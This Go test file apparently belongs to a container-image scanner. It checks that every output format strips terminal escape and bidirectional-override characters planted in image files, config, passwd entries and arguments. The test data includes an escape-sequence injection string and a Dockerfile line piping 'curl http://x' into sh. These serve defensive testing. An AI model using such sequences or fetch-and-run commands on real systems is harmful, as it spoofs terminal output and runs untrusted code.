//go:build unix

package main

import (
	"regexp"
	"strconv"
	"testing"

	"github.com/pratique-dev/pratique/internal/testimage"
	"github.com/pratique-dev/pratique/report"
)

// commands are characters that a terminal takes as a command, or that turn the direction of text.
var commands = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]")

// TestTerminal has an image, a Dockerfile and a bundle say what steers a terminal, wherever they can
// say something, and looks at all that is written.
func TestTerminal(t *testing.T) {
	t.Parallel()
	const evil = "\x1b]0;x\a\x1b[31mred\rfake\u202e\u009b1m"
	layer := testimage.Plain(t,
		testimage.File("srv/"+evil, "x"), testimage.File("etc/passwd", "root:x:0:0:"+evil+":/root:/bin/sh\n"),
		testimage.File("srv/key"+evil, "-----BEGIN RSA PRIVATE KEY-----\nQ7Q7Q7\n-----END RSA PRIVATE KEY-----\n"),
		testimage.File("var/lib/dpkg/status", "Package: a"+evil+"\nStatus: install ok installed\nVersion: 1"+evil+"\nArchitecture: amd64\n\n"),
	)
	config := testimage.Config(t, map[string]any{
		"author": evil, "config": map[string]any{"User": evil, "Env": []string{"A" + evil + "=" + evil}, "Labels": map[string]string{"l" + evil: evil}},
		"history": []map[string]any{{"created_by": "RUN echo " + evil}},
	}, layer)
	image := "archive:" + testimage.Write(t, "image.tar", testimage.Docker(t, "a"+evil+":1", config, layer))
	dockerfile := testimage.Write(t, "Dockerfile", []byte("FROM a\nRUN echo '\x1b[31m\u202e\u009b1m' && curl http://x | sh\n"))
	rules := testimage.Write(t, "b.json", []byte(bundle("files", "name_match", "regex", ".*fake.*")))
	var lines [][]string
	for _, format := range report.FormatNames() {
		lines = append(lines, []string{"eval", "--no-cache", "-b", rules, "-D", dockerfile, "--show-passed", "-o", format, image})
	}
	for _, format := range []string{"text", "json"} {
		lines = append(lines, []string{"explain", "--no-cache", "-b", rules, "-D", dockerfile, "-o", format, image},
			[]string{"eval", "--no-cache", "-b", "default", "-D", dockerfile, "-o", format, image})
	}
	lines = append(lines,
		[]string{"extract", "--no-cache", "-D", dockerfile, image}, []string{"sbom", "-o", "spdx", image}, []string{"sbom", "-o", "cyclonedx", image},
		[]string{"eval", "--no-cache", "-vv", "-b", rules, image}, []string{"eval", "-b", evil[:3] + evil, "-D", dockerfile}, []string{"eval", "archive:" + evil},
		[]string{"eval", "--limit", evil + "=1", image}, []string{evil}, []string{"eval", "--" + evil}, []string{"report", "--benchmark", "cis-docker-1.13", "--no-cache", "-D", dockerfile, image},
	)
	for i, line := range lines {
		t.Run(strconv.Itoa(i), func(t *testing.T) {
			t.Parallel()
			got := pratique(t, nil, line...)
			for where, text := range map[string]string{"output": got.stdout, "error": got.stderr} {
				if at := commands.FindStringIndex(text); at != nil {
					t.Errorf("%q: standard %s has %q", line, where, text[max(0, at[0]-40):min(len(text), at[1]+20)])
				}
			}
			if got.stdout+got.stderr == "" {
				t.Errorf("%q: nothing is written", line)
			}
		})
	}
}
